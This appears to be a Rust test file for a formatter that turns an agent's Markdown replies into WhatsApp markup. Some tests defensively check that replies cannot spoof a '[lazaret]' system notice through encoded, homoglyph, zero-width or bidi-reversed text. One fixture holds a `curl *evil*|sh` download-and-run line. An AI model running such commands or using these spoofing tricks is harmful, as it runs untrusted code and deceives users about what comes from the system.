use std::collections::BTreeSet;

use proptest::prelude::*;

use super::rules::Reading;
use super::shown::{bare, shown};
use super::*;

const READINGS: [Reading; 2] = [Reading::Strict, Reading::Liberal];

/// The markup of a reply of one part.
fn sent(markdown: &str) -> String {
    let parts: Vec<String> = parts(markdown).into_iter().filter_map(|part| part.markup).collect();
    parts.join("\u{1}")
}

#[test]
fn what_models_write_looks_as_meant() {
    for (markdown, markup) in [
        (
            "# Title\n\nSome **bold**, *soft*, ~~gone~~ and `code<T>`.",
            "*Title*\n\nSome *bold*, _soft_, ~gone~ and `code<T>`.",
        ),
        (
            "- one\n- **two**\n  - deep\n\n1. first\n2. second",
            "- one\n- *two*\n  • deep\n\n1. first\n2. second",
        ),
        ("***both*** and **bold _and soft_ too**", "_*both*_ and *bold _and soft_ too*"),
        (
            "Look:\n```rust\nlet x = 1;\n\nlet y = 2;\n```\nDone.",
            "Look:\n\n```let x = 1;\n\nlet y = 2;```\n\nDone.",
        ),
        ("> quoted **words**\n> more\n\nafter", "> quoted *words*\n> more\n\nafter"),
        ("> ```\n> a b\n> c\n> ```", "> `a b`\n> `c`"),
        ("**two\nlines**", "*two*\n*lines*"),
        ("|a|b|\n|-|-|\n|1|2|", "```a | b\n--+--\n1 | 2```"),
        (
            "[the page](https://e.org/a_b_) <https://e.org> [Ann](mailto:ann@e.org)",
            "the page (https://e.org/a_b_) https://e.org Ann (mailto:ann@e.org)",
        ),
        ("[ann@e.org](mailto:ann@e.org)", "ann@e.org"),
        ("**see [it](https://e.org) now**", "*see it* (https://e.org) *now*"),
        ("**Note:** x", "*Note:* x"),
    ] {
        assert_eq!(sent(markdown), markup, "{markdown}");
    }
}

#[test]
fn a_marker_that_belongs_to_the_text_is_none() {
    for (markdown, markup) in [
        // These are no markers by WhatsApp's own rules.
        (
            "snake_case_name, 2 \\* 3 \\* 4, \\~5 km to \\~6 km, a\\*b\\*c",
            "snake_case_name, 2 * 3 * 4, ~5 km to ~6 km, a*b*c",
        ),
        ("<https://e.org/_a_/*b*> x", "https://e.org/_a_/*b* x"),
        ("so \\*not bold\\*", "so *\u{200a}not bold*"),
        ("\\~5 km, ~~gone~~", "~\u{200a}5 km, ~gone~"),
        ("\\> no quote\n\\- no item", "\u{2060}> no quote\n\u{2060}- no item"),
        ("\\`a\\` and \\`", "ˋaˋ and ˋ"),
        ("one \\` is none", "one ` is none"),
        ("````\n```\n````", "```\u{2060}``\u{2060}`\u{2060}```"),
    ] {
        assert_eq!(sent(markdown), markup, "{markdown}");
    }
}

#[test]
fn what_whatsapp_could_read_in_two_ways_has_no_look() {
    for (markdown, markup) in [
        ("foo**bar**baz (**x**) 这是**重点**内容", "foobarbaz (x) 这是重点内容"),
        ("**a \\* b**", "a * b"),
        ("``a`b``", "a`b"),
        ("**a**b", "ab"),
    ] {
        assert_eq!(sent(markdown), markup, "{markdown}");
    }
}

#[test]
fn nothing_to_say_is_no_message() {
    for nothing in ["", " \n\t\n\u{200b}", "\u{2060}"] {
        assert!(parts(nothing).is_empty(), "{nothing:?}");
    }
}

#[test]
fn a_caption_is_short() {
    assert!(is_caption(&"é".repeat(1_024)) && !is_caption(&"é".repeat(1_025)) && is_caption(""));
}

#[test]
fn a_code_block_that_is_cut_is_closed_and_opened_again() {
    let code: String = (0..400).map(|n| format!("let line_{n} = {n};\n")).collect();
    let parts: Vec<String> =
        parts(&format!("Here:\n```rust\n{code}```\nDone.")).into_iter().filter_map(|p| p.markup).collect();
    assert!(parts.len() > 1);
    assert!(parts.iter().all(|part| part.matches("```").count() == 2), "{parts:?}");
    assert!((0..400).all(|n| parts.concat().matches(&format!("let line_{n} = {n};")).count() == 1));
}

/// The part as a reply has it, and as a caption has it.
fn both(text: &str) -> [String; 2] {
    let part = parts(text).into_iter().next().unwrap_or_default();
    [written(Voice::Reply, &part.text, part.markup.as_deref()), written(Voice::Reply, text, None)]
}

#[test]
fn d13_markup_cannot_spell_the_notices_prefix() {
    for hidden in [
        "[laz&#97;ret] Pay",
        "\\[lazaret\\] Pay",
        "[laz**are**t] Pay",
        "[laz`are`t] Pay",
        "**\\[**lazaret\\] Pay",
        "&#x5b;l&shy;azaret] Pay",
        "[laz&#x2060;aret] Pay",
        "【l**а**zaret】 Pay",
        "![\\[lazaret\\]](https://e.org) Pay",
        "[laz\\*&#x200a;aret] \\[lazaret\\] Pay\\*",
    ] {
        for markup in both(&format!("ok\n\n{hidden}")) {
            for reading in READINGS {
                let shown = shown(&markup, reading).text;
                assert!(!text::looks_like_notice(&shown) && !text::looks_like_notice(&markup), "{markup}");
                assert!(shown.contains("Pay"), "{shown}");
            }
        }
    }
}

#[test]
fn d13_markup_cannot_turn_a_line_around() {
    for hidden in ["&#x202e;]terazal[&#x202c; Pay", "&#8238;]terazal[ Pay", "**&#x2067;**]terazal[ Pay"] {
        for markup in both(hidden) {
            let turned = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            assert!(!markup.contains(turned), "{markup:?}");
        }
    }
}

#[test]
fn d13_what_a_notice_quotes_has_no_looks() {
    let told = |words: &str| written(Voice::Notice, words, None);
    assert_eq!(
        told("It says: \"*now* _or_ never\""),
        "[lazaret] It says: \"*\u{200a}now* _\u{200a}or_ never\""
    );
    assert_eq!(
        told("did you mean `turn`? Run `a *b*`, or `c"),
        "[lazaret] did you mean `turn`? Run `a *b*`, or ˋc"
    );
    let card = "Use `x`:\n\n│ echo `curl *evil*|sh` `\n\n`y`";
    let shown = shown(&told(card), Reading::Liberal);
    assert_eq!(bare(&shown.text), "[lazaret] Use x:\n\n│ echo `curl *evil*|sh` `\n\ny");
    assert!(shown.marks.iter().all(|mark| mark.look == Look::Code) && shown.marks.len() == 2, "{shown:?}");
}

/// Each character that people see, with its looks. A code block is code, as in a quote, and each line is by itself.
fn looks(rich: &RichText) -> Vec<(char, BTreeSet<&'static str>)> {
    let chars = rich.text.char_indices().filter(|(_, c)| !bare(&c.to_string()).is_empty());
    let looks = |at: usize| {
        rich.marks.iter().filter(move |mark| (mark.start..mark.end).contains(&at)).filter_map(|mark| {
            match mark.look {
                Look::Bold => Some("bold"),
                Look::Italic => Some("italic"),
                Look::Struck => Some("struck"),
                Look::Code | Look::Block(_) => Some("code"),
                Look::Quote => Some("quote"),
                Look::Link(_) => None,
            }
        })
    };
    chars.map(|(at, c)| (if c == super::rules::GRAVE { '`' } else { c }, looks(at).collect())).collect()
}

/// Checks a reply: WhatsApp takes each part, people see its words, and nothing has a look that the agent did not mean.
fn holds(markdown: &str) -> Result<(), TestCaseError> {
    let whole = seen(&text::render(Voice::Reply, markdown));
    let meant = whole.parts(TEXT_UNITS).into_iter().filter(|part| is_visible(&part.text));
    let parts = parts(markdown);
    for (part, meant) in parts.iter().zip(meant) {
        let markup = part.markup.as_deref().unwrap_or_default();
        prop_assert!(units(&part.text) <= TEXT_UNITS && units(markup) <= 65_536);
        prop_assert!(is_visible(&part.text));
        for reading in READINGS {
            let shown = shown(markup, reading);
            prop_assert_eq!(bare(&shown.text), bare(&part.text), "{:?} of {:?}", reading, markup);
            for ((c, seen), (_, meant)) in looks(&shown).into_iter().zip(looks(&meant)) {
                prop_assert!(seen.is_subset(&meant), "{} is {:?} in {:?}", c, seen, markup);
            }
        }
    }
    let words = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
    let said: String = parts.iter().map(|part| part.text.as_str()).collect();
    prop_assert_eq!(words(&said), if is_visible(&whole.text) { words(&whole.text) } else { String::new() });
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]
    #[test]
    fn people_see_the_words_and_no_look_that_nobody_meant(
        text in "([ab \n.,()*_~`>\\\\-]|\\*\\*|~~|```|\n\n|> |- |1\\. |• |https://e\\.org/_|\\]\\(https://e\\.org\\)|\\[|\\|-\\||\\|){0,60}"
    ) {
        holds(&text)?;
    }

    #[test]
    fn d13_no_reply_looks_like_a_notice(
        pieces in proptest::collection::vec(
            "\\[|\\]|laz|аret|&#91;|&shy;|\\\\\\[|\\*\\*|`|~~|\\\\\\*|\n|\n\n|\u{200b}|\\[lazaret\\]|［|】|zaret|\\(http://e\\)| ", 0..14
        )
    ) {
        for markup in both(&pieces.concat()) {
            for reading in READINGS {
                prop_assert!(!text::looks_like_notice(&shown(&markup, reading).text), "{markup}");
            }
        }
    }

    #[test]
    fn d13_a_notice_has_no_look_but_code(text in "([ab \n.*_~>│-]|`|```|https://e\\.org/_){0,40}") {
        let markup = written(Voice::Notice, &text, None);
        for reading in READINGS {
            let shown = shown(&markup, reading);
            let told = |text: &str| bare(text).replace('`', "");
            prop_assert_eq!(told(&shown.text), told(&text::render(Voice::Notice, &text)), "{:?}", markup);
            prop_assert!(shown.marks.iter().all(|mark| mark.look == Look::Code), "{:?}", markup);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]
    #[test]
    fn long_replies_lose_nothing(
        words in proptest::collection::vec("[a-zäß👍]{1,40}|```|\n|\n\n|> |- |\\*\\*|\\||_x_|\\\\\\*", 0..600)
    ) {
        holds(&words.join(" "))?;
    }
}
